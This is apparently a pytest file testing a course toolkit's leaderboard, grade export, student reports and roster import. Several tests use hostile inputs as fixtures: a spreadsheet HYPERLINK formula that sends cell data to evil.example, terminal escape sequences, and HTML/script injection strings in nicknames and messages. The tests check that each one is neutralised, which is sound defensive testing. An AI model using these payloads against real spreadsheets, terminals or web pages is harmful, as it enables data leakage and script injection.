"""The cohort leaderboard from a gradebook: who counts, who ranks where, what students may see,
and what the TA exports. Runs are made by hand (no grading), so every expected rank is known."""

import csv
import json
from datetime import UTC, datetime

import pytest

from hwkit.assignments import get_assignment
from hwkit.cli import main as hwkit_main
from hwkit.course import CourseConfig
from hwkit.gradebook import Gradebook, Student
from hwkit.leaderboard import load_board, write_leaderboard
from hwkit.leaderboard.standings import anonymous_handle
from hwkit.leaderboard.view import public_view
from hwkit.results import HeldOutAccuracy, SubmissionResult
from hwkit.results import TestOutcome as Outcome

A1, A2 = get_assignment("a1"), get_assignment("a2")
DEADLINE = datetime(2026, 12, 6, 15, 59, tzinfo=UTC)
COURSE = CourseConfig(split_seed=7, deadlines={"a1": DEADLINE, "a2": DEADLINE})
PNG = b"\x89PNG\r\n\x1a\nfake"


def run(submission, score, when, assignment="a1", public=None, private=None, field="", png=b"",
        modified="", status=None, message=None):
    """A graded run: ``score`` of 35, submitted at ``when`` (ISO UTC), with an "nn" accuracy;
    ``modified``: the file's own time (default: ``when``)."""
    accuracies = []
    if public is not None:
        accuracies = [HeldOutAccuracy("nn", public, private, 5000, 5000)]
    return SubmissionResult(
        assignment=assignment, submission=submission, sha256=submission, autograder_sha256="g",
        status=status or ("ok" if score == 35 else "error: ValueError: bad shape"), score=score,
        max_score=35.0, started_at=when, duration_s=1.0, device="cpu",
        tests=[Outcome("q9", "q9 - 2", score, 35.0, hidden=True, passed=score == 35,
                       message=message or ("" if score == 35 else "REPORT: below the bar"))],
        submitted_at=when, student_field=field, accuracies=accuracies, curves_png=png,
        file_time=modified or when,
    )


ROSTER = [
    Student("2026001", "陈明", "明明", show_name=True),
    Student("2026002", "李华", "Hua"),
    Student("2026003", "王芳", ""),
    Student("2026004", "张伟", "Wei"),
]


@pytest.fixture
def course(tmp_path):
    """A course folder whose gradebook has a roster and these A1 runs."""
    folder = tmp_path / "course"
    folder.mkdir()
    with Gradebook(folder / "gradebook.sqlite") as book:
        book.import_roster(ROSTER)
        for result in (
            # 2026001: two submissions; the later one (on time) counts under "latest"
            run("2026001_a.ipynb", 35, "2026-12-01T09:00:00+00:00", public=0.97, private=0.95),
            run("2026001_b.ipynb", 30, "2026-12-02T09:00:00+00:00", public=0.99, private=0.99,
                png=PNG),
            # 2026002 and 2026004: same score and public accuracy: the earlier one ranks first
            run("2026002.ipynb", 35, "2026-12-03T09:00:00+00:00", public=0.96, private=0.97),
            run("2026004-final.ipynb", 35, "2026-12-01T08:00:00+00:00", public=0.96,
                private=0.90),
            # 2026003: the file name decides (the field agrees), submitted after the deadline
            run("2026003_my_homework.ipynb", 35, "2026-12-07T01:00:00+00:00", field="2026003",
                public=0.98, private=0.96),
            # nobody's: a field that is not on the roster, a name that matches no one
            run("stranger.ipynb", 35, "2026-12-01T00:00:00+00:00", field="9999999"),
        ):
            book.record(result)
    return folder


def names_in_order(board):
    return [s.student_id for s in board.standings]


def test_ranks_by_score_then_public_accuracy_then_earlier_submission(course):
    board, book = load_board(course, COURSE, [A1])
    book.close()
    (a1,) = board.boards
    # 2026003 (35, 0.98, late) · 2026004 (35, 0.96, Dec 1) · 2026002 (35, 0.96, Dec 3) ·
    # 2026001 (30: the latest on-time submission counts, not the better one)
    assert names_in_order(a1) == ["2026003", "2026004", "2026002", "2026001"]
    assert [s.rank for s in a1.standings] == [1, 2, 3, 4]


def test_several_submissions_are_kept_and_the_rule_picks_the_counted_one(course):
    board, book = load_board(course, COURSE, [A1])
    book.close()
    mine = next(s for s in board.boards[0].standings if s.student_id == "2026001")
    assert mine.submissions == 2 and mine.counted.result.submission == "2026001_b.ipynb"
    assert mine.last_submitted_at == "2026-12-02T09:00:00+00:00"
    best = CourseConfig(split_seed=7, counted="best", deadlines=COURSE.deadlines)
    board, book = load_board(course, best, [A1])
    book.close()
    mine = next(s for s in board.boards[0].standings if s.student_id == "2026001")
    assert mine.counted.result.submission == "2026001_a.ipynb" and mine.score == 35


def test_late_submissions_are_marked_and_on_time_ones_win_under_latest(course, tmp_path):
    board, book = load_board(course, COURSE, [A1])
    book.close()
    late = {s.student_id: s.counted.late for s in board.boards[0].standings}
    assert late == {"2026003": True, "2026004": False, "2026002": False, "2026001": False}
    with Gradebook(course / "gradebook.sqlite") as book:  # a late resubmission by 2026002
        book.record(run("2026002_late.ipynb", 20, "2026-12-08T00:00:00+00:00", public=0.5,
                        private=0.5))
    board, book = load_board(course, COURSE, [A1])
    book.close()
    hua = next(s for s in board.boards[0].standings if s.student_id == "2026002")
    assert hua.counted.result.submission == "2026002.ipynb" and not hua.counted.late
    assert hua.submissions == 2


def test_unmatched_submissions_are_reported_never_dropped(course):
    board, book = load_board(course, COURSE, [A1])
    book.close()
    (lost,) = board.unmatched
    assert lost.submission == "stranger.ipynb" and "9999999" in lost.reason
    output = write_leaderboard(course, course / "board", COURSE, [A1])
    with output.unmatched_csv.open(encoding="utf-8-sig") as f:
        assert [r["submission"] for r in csv.DictReader(f)] == ["stranger.ipynb"]


def test_before_reveal_no_private_figure_exists_in_the_view_or_the_page(course):
    output = write_leaderboard(course, course / "board", COURSE, [A1])
    view = public_view(output.board)
    rows = view["assignments"][0]["rows"]
    assert all("private" not in row for row in rows)
    assert [row["public"] for row in rows] == [0.98, 0.96, 0.96, 0.99]
    html = output.page.read_text(encoding="utf-8")
    start = html.index('<script type="application/json" id="board-data">')
    data = html[html.index(">", start) + 1 : html.index("</script>", start)]
    assert json.loads(data) == json.loads(json.dumps(view))  # the page carries the view, no more
    assert "private" not in data and "0.95" not in data and "0.97" not in data


PAST_DEADLINE_TOML = "[assignments.a1]\ndeadline = 2026-01-01T00:00:00+08:00\n"


def test_reveal_ranks_by_the_private_part_and_shows_it(course):
    (course / "course.toml").write_text(PAST_DEADLINE_TOML, encoding="utf-8")
    assert hwkit_main(["leaderboard", "--course", str(course), "--reveal", "a1"]) == 0
    board, book = load_board(course, COURSE, [A1])
    book.close()
    # private: 2026002 0.97 > 2026003 0.96 > 2026004 0.90 (all 35), then 2026001 (30)
    assert names_in_order(board.boards[0]) == ["2026002", "2026003", "2026004", "2026001"]
    view = public_view(board)
    assert [row["private"] for row in view["assignments"][0]["rows"]] == [0.97, 0.96, 0.9, 0.99]


def test_the_page_shows_nicknames_or_anonymous_handles_never_ids_or_names(course):
    output = write_leaderboard(course, course / "board", COURSE, [A1])
    html = output.page.read_text(encoding="utf-8")
    terminal = output.terminal
    for student in ROSTER:
        assert student.student_id not in html and student.student_id not in terminal
        assert student.name not in html and student.name not in terminal
    with Gradebook(course / "gradebook.sqlite") as book:
        handle = anonymous_handle("2026003", book.course_secret())
    assert "明明" in html and "Hua" in html and handle in html  # 王芳 has no nickname


def test_a_student_may_show_their_name_when_the_course_allows_it(course):
    relaxed = CourseConfig(split_seed=7, require_nicknames=False, deadlines=COURSE.deadlines)
    output = write_leaderboard(course, course / "board", relaxed, [A1])
    html = output.page.read_text(encoding="utf-8")
    assert "陈明 (明明)" in html  # show_name = yes
    assert "李华" not in html  # show_name = no


def test_an_empty_cohort_writes_an_empty_board(tmp_path):
    folder = tmp_path / "empty"
    folder.mkdir()
    output = write_leaderboard(folder, None, COURSE, [A1, A2])
    assert output.page.is_file() and output.reports == []
    assert [b.standings for b in output.board.boards] == [[], []]
    assert "no submissions yet" in output.terminal
    with output.grades_csv.open(encoding="utf-8-sig") as f:
        assert list(csv.reader(f)) == [["student_id", "name", "a1", "a2", "total", "late",
                                        "missing"]]


def test_grades_csv_has_one_row_per_roster_student_with_totals(course):
    with Gradebook(course / "gradebook.sqlite") as book:
        book.record(run("2026002_a2.ipynb", 30, "2026-12-02T00:00:00+00:00", assignment="a2"))
    output = write_leaderboard(course, course / "board", COURSE, [A1, A2])
    with output.grades_csv.open(encoding="utf-8-sig") as f:
        rows = {r["student_id"]: r for r in csv.DictReader(f)}
    assert set(rows) == {s.student_id for s in ROSTER}
    expected = {"student_id": "2026002", "name": "李华", "a1": "35", "a2": "30", "total": "65",
                "late": "", "missing": ""}
    assert rows["2026002"] == expected
    assert rows["2026003"]["late"] == "a1" and rows["2026003"]["missing"] == "a2"
    assert rows["2026001"]["total"] == "30"
    assert output.grades_csv.read_bytes().startswith("\ufeffstudent_id".encode())  # for Excel
    assert output.grades_csv.name == "grades.csv" != "a1-runs.csv"
    totals = output.board.totals
    assert [t.student_id for t in totals][:1] == ["2026002"] and totals[0].total == 65


def test_student_reports_give_failures_cohort_position_and_training_curves(course):
    output = write_leaderboard(course, course / "board", COURSE, [A1])
    reports = {p.stem: p for p in output.reports}
    assert set(reports) == {"2026001", "2026002", "2026003", "2026004"}
    mine = reports["2026001"].read_text(encoding="utf-8")
    assert "REPORT: below the bar" in mine and "rank 4 / 4" in mine
    assert "Public accuracy: 99.00%" in mine and "Private" not in mine
    assert "![训练曲线 / training curves](2026001-a1-curves.png)" in mine
    assert (reports["2026001"].parent / "2026001-a1-curves.png").read_bytes() == PNG
    assert "curves" not in reports["2026002"].read_text(encoding="utf-8")


def test_roster_import_from_the_command_line_is_all_or_nothing(tmp_path, capsys):
    folder = tmp_path / "course"
    folder.mkdir()
    good = tmp_path / "roster.csv"
    good.write_text("\ufeff学号,姓名,昵称\n2026001,陈明,明明\n2026002,李华,\n", encoding="utf-8")
    assert hwkit_main(["roster", "import", str(good), "--course", str(folder)]) == 0
    bad = tmp_path / "bad.csv"
    bad.write_text("student_id,name\n2026003,王芳\n2026003,重复\n", encoding="utf-8")
    assert hwkit_main(["roster", "import", str(bad), "--course", str(folder)]) == 2
    assert "line 3" in capsys.readouterr().err
    with Gradebook(folder / "gradebook.sqlite") as book:
        assert [s.student_id for s in book.roster()] == ["2026001", "2026002"]
        assert book.roster()[0] == Student("2026001", "陈明", "明明")


def test_the_command_names_a_missing_course_folder_and_an_unknown_assignment(tmp_path, capsys):
    assert hwkit_main(["leaderboard", "--course", str(tmp_path / "nope")]) == 2
    assert "course folder not found" in capsys.readouterr().err
    assert hwkit_main(["leaderboard", "--course", str(tmp_path), "--reveal", "a9"]) == 2
    assert "unknown assignment 'a9'" in capsys.readouterr().err


def test_the_command_writes_the_page_and_prints_the_board(course, capsys):
    out = course / "out"
    assert hwkit_main(["leaderboard", "--course", str(course), "--out", str(out)]) == 0
    printed = capsys.readouterr().out
    assert (out / "leaderboard.html").is_file() and (out / "grades.csv").is_file()
    lines = [line for line in printed.splitlines() if line[:1].isdigit()]
    assert [line.split()[1] for line in lines[:3]] == ["匿名", "Wei", "Hua"]
    assert "unmatched submissions / 未匹配的提交: 1" in printed


def read_csv(path):
    with path.open(encoding="utf-8-sig") as f:
        return list(csv.DictReader(f))


def test_a_classmates_file_claiming_someone_else_never_becomes_theirs(course, capsys):
    """The attack: 2026004 hands in a blank notebook with STUDENT_ID = 2026002, later than
    2026002's own 35-point file. It stays 2026004's, 2026002 keeps 35, and the TA is told."""
    with Gradebook(course / "gradebook.sqlite") as book:
        book.record(run("2026004_blank.ipynb", 0, "2026-12-05T09:00:00+00:00", field="2026002"))
    out = course / "out"
    assert hwkit_main(["leaderboard", "--course", str(course), "--out", str(out)]) == 0
    printed = capsys.readouterr().out
    grades = {r["student_id"]: r for r in read_csv(out / "grades.csv")}
    assert grades["2026002"]["a1"] == "35" and grades["2026004"]["a1"] == "0"
    board, book = load_board(course, COURSE, [A1])
    book.close()
    hua = next(s for s in board.boards[0].standings if s.student_id == "2026002")
    assert hua.submissions == 1 and hua.counted.result.submission == "2026002.ipynb"
    (flagged,) = board.flagged
    assert (flagged.submission, flagged.student_id) == ("2026004_blank.ipynb", "2026004")
    assert "STUDENT_ID '2026002' disagrees with the file name (2026004)" in flagged.flag
    # (a) the terminal, (b) unmatched.csv, (c) the TA's report — never a student's report
    assert "flagged / 需核对  2026004_blank.ipynb → 2026004: STUDENT_ID '2026002'" in printed
    assert "unmatched submissions / 未匹配的提交: 1, flagged / 需核对: 1" in printed
    rows = read_csv(out / "unmatched.csv")
    assert [(r["submission"], r["student_id"]) for r in rows] == [
        ("stranger.ipynb", ""), ("2026004_blank.ipynb", "2026004")
    ]
    assert "disagrees" in rows[1]["flag"] and rows[1]["student_field"] == "2026002"
    ta = (out / "ta-report.md").read_text(encoding="utf-8")
    assert "`2026004_blank.ipynb` → 计入 / counted for 2026004 (张伟)" in ta
    assert "disagrees" in ta and "stranger.ipynb" in ta
    for report in (out / "reports").glob("*.md"):
        assert "disagrees" not in report.read_text(encoding="utf-8"), report.name
    assert "ta-report" not in " ".join(p.name for p in (out / "reports").iterdir())
    assert "disagrees" not in (out / "leaderboard.html").read_text(encoding="utf-8")


def test_a_file_named_for_no_one_is_unmatched_even_when_its_field_names_a_student(course):
    with Gradebook(course / "gradebook.sqlite") as book:
        book.record(run("homework.ipynb", 35, "2026-12-05T09:00:00+00:00", field="2026001"))
    output = write_leaderboard(course, course / "board", COURSE, [A1])
    lost = next(u for u in output.board.unmatched if u.submission == "homework.ipynb")
    assert "STUDENT_ID claims 2026001; rename the file to 2026001_… if that is right" in lost.reason
    mine = next(s for s in output.board.boards[0].standings if s.student_id == "2026001")
    assert mine.submissions == 2  # its own two files only
    assert "rename the file to 2026001_" in output.checks
    assert "STUDENT_ID claims 2026001" in output.unmatched_csv.read_text(encoding="utf-8")


def test_a_per_student_folder_decides_like_a_file_name(course):
    with Gradebook(course / "gradebook.sqlite") as book:
        book.record(run("2026003/a1.ipynb", 20, "2026-12-08T09:00:00+00:00"))
    board, book = load_board(course, COURSE, [A1])
    book.close()
    wang = next(s for s in board.boards[0].standings if s.student_id == "2026003")
    assert wang.submissions == 2 and board.flagged == []


def test_a_name_stamped_on_time_for_a_file_modified_late_is_flagged_not_moved(course):
    with Gradebook(course / "gradebook.sqlite") as book:
        book.record(run("2026002_20261205T1530.ipynb", 20, "2026-12-05T15:30:00+00:00",
                        modified="2026-12-22T08:00:00+00:00"))
        book.record(run("2026004_20261205T1530.ipynb", 20, "2026-12-05T15:30:00+00:00",
                        modified="2026-12-05T15:31:00+00:00"))
    output = write_leaderboard(course, course / "board", COURSE, [A1])
    (flagged,) = output.board.flagged
    assert flagged.submission == "2026002_20261205T1530.ipynb"
    assert flagged.flag.startswith("name says 2026-12-05T15:30, file modified 2026-12-22T08:00")
    hua = next(s for s in output.board.boards[0].standings if s.student_id == "2026002")
    assert not hua.counted.late  # the flag tells the TA; it does not decide
    assert "name says 2026-12-05T15:30" in output.checks
    rows = read_csv(output.unmatched_csv)
    assert rows[-1]["flag"].startswith("name says") and rows[-1]["student_id"] == "2026002"


HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"30/30")'


def test_csv_cells_a_spreadsheet_would_run_are_text_and_scores_stay_numbers(tmp_path):
    folder = tmp_path / "course"
    folder.mkdir()
    with Gradebook(folder / "gradebook.sqlite") as book:
        book.import_roster([Student("2026001", HYPERLINK), Student("2026002", "@SUM(1+1)*cmd")])
        book.record(run("2026001.ipynb", 35, "2026-12-01T09:00:00+00:00"))
        book.record(run(f"{HYPERLINK}.ipynb", 35, "2026-12-01T09:00:00+00:00", field="+1-2"))
    output = write_leaderboard(folder, folder / "board", COURSE, [A1])
    grades = list(csv.reader(output.grades_csv.read_text(encoding="utf-8-sig").splitlines()))
    assert grades[1][:3] == ["2026001", "'" + HYPERLINK, "35"] and grades[1][3] == "35"
    assert grades[2][:3] == ["2026002", "'@SUM(1+1)*cmd", "0"]
    (row,) = read_csv(output.unmatched_csv)
    assert row["submission"] == f"'{HYPERLINK}.ipynb" and row["student_field"] == "'+1-2"
    for cells in (grades, [list(row.values())]):
        assert not any(c[:1] in ("=", "+", "-", "@", "\t", "\r") for r in cells for c in r)


def test_nicknames_and_names_reach_the_terminal_with_control_characters_escaped(tmp_path, capsys):
    folder = tmp_path / "course"
    folder.mkdir()
    evil = "\x1b[2J\x1b[H\u202emoc.live\n1  Fake  35 / 35"
    with Gradebook(folder / "gradebook.sqlite") as book:
        book.import_roster([Student("2026001", "x", evil), Student("2026002", "y", "n" * 300)])
        book.record(run("2026001.ipynb", 35, "2026-12-01T09:00:00+00:00"))
        book.record(run("2026002.ipynb", 30, "2026-12-01T09:00:00+00:00"))
        book.record(run("\x1b]0;pwned\x07\rok.ipynb", 0, "2026-12-01T09:00:00+00:00",
                        field="\x1b[31m"))
    assert hwkit_main(["leaderboard", "--course", str(folder), "--out", str(folder / "b")]) == 0
    printed = capsys.readouterr().out
    assert not any(c in printed for c in "\x1b\x07\r\u202e")
    assert "\\x1b[2J\\x1b[H\\u202emoc.live\\n1  Fake  35 / 35" in printed
    assert "\\x1b]0;pwned\\x07\\rok.ipynb" in printed
    assert not any(line.startswith("1  Fake") for line in printed.splitlines())
    assert "n" * 300 not in printed and "n" * 78 + "…" in printed


def test_student_text_cannot_inject_markdown_or_html_into_the_reports(tmp_path):
    markdown_it = pytest.importorskip("markdown_it")
    folder = tmp_path / "course"
    folder.mkdir()
    nickname = "<img src=x onerror=alert(1)> [me](http://evil.example)"
    message = "ValueError: `x`\n# 满分 30 / 30\n<script>alert(1)</script>\n| a | b |\n|---|---|"
    with Gradebook(folder / "gradebook.sqlite") as book:
        book.import_roster([Student("2026001", "x", nickname)])
        book.record(run("2026001_`<b>x<i>`.ipynb", 10, "2026-12-01T09:00:00+00:00",
                        status="error: RuntimeError: <iframe src=x>", message=message))
    output = write_leaderboard(folder, folder / "board", COURSE, [A1])
    (report,) = output.reports
    text = report.read_text(encoding="utf-8")
    html = markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table").render(text)
    for tag in ("<img", "<script", "<iframe", "<a ", "<b>", "<table", "<h1>满分"):
        assert tag not in html, tag
    assert html.count("<h1>") == 1 and "<h2>" in html  # only the report's own headings
    assert "# 满分 30 / 30" in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<code>2026001_`&lt;b&gt;x&lt;i&gt;`.ipynb</code>" in html  # readable, literal


def test_a_255_byte_name_without_a_roster_writes_short_report_and_curve_names(tmp_path):
    folder = tmp_path / "course"
    folder.mkdir()
    long_ids = ["张" * 80 + "a", "张" * 80 + "b"]  # 241 bytes each, differing at the end
    with Gradebook(folder / "gradebook.sqlite") as book:
        for sid in long_ids:
            book.record(run(f"{sid}_x.ipynb", 35, "2026-12-01T09:00:00+00:00", png=PNG))
    output = write_leaderboard(folder, folder / "board", COURSE, [A1])
    names = sorted(p.name for p in (folder / "board" / "reports").iterdir())
    assert len(names) == 4 and len(set(names)) == 4  # two reports, two curves, all distinct
    assert all(len(name.encode("utf-8")) <= 160 for name in names)
    assert {s.student_id for s in output.board.boards[0].standings} == set(long_ids)


def test_reveal_is_refused_before_the_deadline_and_without_a_private_part(course, capsys):
    future = "[assignments.a1]\ndeadline = 2099-01-01T00:00:00+08:00\n"
    (course / "course.toml").write_text(future, encoding="utf-8")
    assert hwkit_main(["leaderboard", "--course", str(course), "--reveal", "a1"]) == 2
    err = capsys.readouterr().err
    assert "not revealed" in err and "2098-12-31T16:00:00+00:00" in err and "--force" in err
    assert hwkit_main(["leaderboard", "--course", str(course), "--reveal", "a2"]) == 2
    assert "a2 has no held-out accuracy" in capsys.readouterr().err
    with Gradebook(course / "gradebook.sqlite") as book:
        assert book.revealed() == {} and book.course_log() == []
    assert hwkit_main(["leaderboard", "--course", str(course), "--reveal", "a1", "--force"]) == 0
    with Gradebook(course / "gradebook.sqlite") as book:
        assert set(book.revealed()) == {"a1"}
        ((_at, who, action, assignment, detail),) = book.course_log()
    assert (action, assignment) == ("reveal", "a1") and who
    assert detail.startswith("forced: a1's deadline is 2098-12-31T16:00")


def test_unreveal_hides_the_private_part_again_and_is_logged(course, capsys):
    (course / "course.toml").write_text(PAST_DEADLINE_TOML, encoding="utf-8")
    assert hwkit_main(["leaderboard", "--course", str(course), "--reveal", "a1"]) == 0
    out = course / "board"
    argv = ["leaderboard", "--course", str(course), "--unreveal", "a1", "--out", str(out)]
    assert hwkit_main(argv) == 0
    assert "a1: private part hidden again" in capsys.readouterr().out
    html = (out / "leaderboard.html").read_text(encoding="utf-8")
    assert "0.95" not in html and '"revealed": true' not in html
    with Gradebook(course / "gradebook.sqlite") as book:
        assert book.revealed() == {}
        assert [entry[2] for entry in book.course_log()] == ["reveal", "unreveal"]
    assert hwkit_main(argv) == 0
    assert "a1: was not revealed" in capsys.readouterr().out


def test_reimporting_a_roster_replaces_it_and_lists_who_left(tmp_path, capsys):
    course = tmp_path / "new-course"  # not there yet: the import makes it
    first, fixed = tmp_path / "first.csv", tmp_path / "fixed.csv"
    first.write_text("student_id,name\n2026001,陈明\n2026O02,李华\n", encoding="utf-8")
    fixed.write_text("student_id,name\n2026001,陈明\n2026002,李华\n", encoding="utf-8")
    assert hwkit_main(["roster", "import", str(first), "--course", str(course)]) == 0
    capsys.readouterr()
    assert hwkit_main(["roster", "import", str(fixed), "--course", str(course)]) == 0
    assert "removed / 已移除 1 (not in fixed.csv): 2026O02" in capsys.readouterr().out
    with Gradebook(course / "gradebook.sqlite") as book:
        assert [s.student_id for s in book.roster()] == ["2026001", "2026002"]
        assert [(e[2], e[4]) for e in book.course_log()] == [("roster: removed", "2026O02")]
    extra = tmp_path / "extra.csv"
    extra.write_text("student_id,name\n2026003,王芳\n", encoding="utf-8")
    assert hwkit_main(["roster", "import", str(extra), "--course", str(course), "--add"]) == 0
    with Gradebook(course / "gradebook.sqlite") as book:
        assert [s.student_id for s in book.roster()] == ["2026001", "2026002", "2026003"]


def test_the_late_policy_takes_points_off_per_started_day_after_the_grace(tmp_path):
    """course.toml's [late]: 10 % per started day after 30 minutes' grace, at most 25 %."""
    from hwkit.course import parse_config

    config = parse_config(
        "[assignments.a2]\ndeadline = 2026-12-20T23:59:00+08:00\n"
        "[late]\ngrace_minutes = 30\npercent_per_day = 10\nmax_percent = 25\n", "test")
    folder = tmp_path / "late-course"
    with Gradebook(folder / "gradebook.sqlite") as book:
        book.import_roster(ROSTER)
        for sid, when in (("2026001", "2026-12-20T16:20:00+00:00"),   # 21 min: in the grace
                          ("2026002", "2026-12-20T16:40:00+00:00"),   # 41 min: day 1, -10 %
                          ("2026003", "2026-12-22T17:00:00+00:00"),   # 2 d 1 h: day 3, -25 %
                          ("2026004", "2026-12-20T15:00:00+00:00")):  # on time
            book.record(run(f"{sid}_a2.ipynb", 30, when, assignment="a2"))
    output = write_leaderboard(folder, folder / "board", config, [A2])
    standings = {s.student_id: s for s in output.board.boards[0].standings}
    assert {sid: s.score for sid, s in standings.items()} == {
        "2026001": 30, "2026002": 27, "2026003": 22.5, "2026004": 30}
    days = {sid: s.counted.days_late for sid, s in standings.items()}
    assert (days["2026002"], days["2026003"]) == (1, 3)
    assert not standings["2026001"].counted.late
    with output.grades_csv.open(encoding="utf-8-sig") as f:
        assert {r["student_id"]: r["a2"] for r in csv.DictReader(f)}["2026003"] == "22.5"
    report = next(p for p in output.reports if "2026003" in p.name).read_text(encoding="utf-8")
    assert "迟交 3 天，扣 25%" in report and "the tests gave 30" in report
    view = public_view(output.board)
    assert "10 % off per started day" in view["assignments"][0]["late_policy"]


def test_a_bad_late_policy_is_refused_with_the_key_named():
    from hwkit.course import CourseConfigError, parse_config

    with pytest.raises(CourseConfigError, match=r"\[late\] percent_per_day must be a number"):
        parse_config("[late]\npercent_per_day = 150\n", "course.toml")
    with pytest.raises(CourseConfigError, match="unknown keys"):
        parse_config("[late]\npenalty = 5\n", "course.toml")


def test_counted_files_without_a_time_stamp_are_listed_as_time_unknown(course, capsys):
    with Gradebook(course / "gradebook.sqlite") as book:
        book.record(run("2026002_20261205T1530.ipynb", 35, "2026-12-05T15:30:00+00:00"))
    (course / "course.toml").write_text(PAST_DEADLINE_TOML, encoding="utf-8")
    assert hwkit_main(["leaderboard", "--course", str(course)]) == 0
    printed = capsys.readouterr().out
    board, book = load_board(course, COURSE, [A1])
    book.close()
    untimed = {s.result.submission for s in board.time_unknown}
    assert "2026003_my_homework.ipynb" in untimed
    assert "2026002_20261205T1530.ipynb" not in untimed  # its name says when
    assert "time unknown / 时间未知" in printed
    report = (course / "leaderboard" / "ta-report.md").read_text(encoding="utf-8")
    assert "## 时间未知 / Time unknown" in report and "`2026003_my_homework.ipynb`" in report


def test_another_assignments_notebook_never_reaches_the_board(course):
    with Gradebook(course / "gradebook.sqlite") as book:
        book.record(run("2026004_a2_by_mistake.ipynb", 0, "2026-12-05T00:00:00+00:00",
                        status="wrong assignment: this notebook is for a2, not a1"))
    output = write_leaderboard(course, course / "board", COURSE, [A1])
    wei = next(s for s in output.board.boards[0].standings if s.student_id == "2026004")
    assert wei.submissions == 1 and wei.counted.result.submission == "2026004-final.ipynb"
    (lost,) = [u for u in output.board.unmatched if u.submission == "2026004_a2_by_mistake.ipynb"]
    assert lost.reason.startswith("wrong assignment: this notebook is for a2")


def test_a_withdrawn_submission_leaves_the_board_until_it_is_restored(course, capsys):
    argv = ["withdraw", "a1", "2026001_a.ipynb", "--course", str(course), "--reason", "dup"]
    assert hwkit_main(argv) == 0
    board, book = load_board(course, COURSE, [A1])
    book.close()
    chen = next(s for s in board.boards[0].standings if s.student_id == "2026001")
    assert chen.submissions == 1
    assert hwkit_main(["withdraw", "a1", "nope.ipynb", "--course", str(course)]) == 2
    assert "no graded submission 'nope.ipynb'" in capsys.readouterr().err
    assert hwkit_main([*argv[:3], "--course", str(course), "--restore"]) == 0
    assert "restored" in capsys.readouterr().out
    board, book = load_board(course, COURSE, [A1])
    log = [entry[2] for entry in book.course_log()]
    book.close()
    assert next(s for s in board.boards[0].standings if s.student_id == "2026001").submissions == 2
    assert log == ["withdraw", "restore"]


def test_the_first_roster_import_writes_a_course_toml_to_edit(tmp_path, capsys):
    roster = tmp_path / "roster.csv"
    roster.write_text("student_id\n2026001\n", encoding="utf-8")
    course = tmp_path / "new"
    assert hwkit_main(["roster", "import", str(roster), "--course", str(course)]) == 0
    assert f"course: wrote {course / 'course.toml'}" in capsys.readouterr().out
    text = (course / "course.toml").read_text(encoding="utf-8")
    assert "[assignments.a1]" in text and "# [late]" in text
    (course / "course.toml").write_text("[course]\nname = 'mine'\n", encoding="utf-8")
    assert hwkit_main(["roster", "import", str(roster), "--course", str(course)]) == 0
    assert "course: wrote" not in capsys.readouterr().out  # an edited one is never replaced
    assert (course / "course.toml").read_text(encoding="utf-8") == "[course]\nname = 'mine'\n"
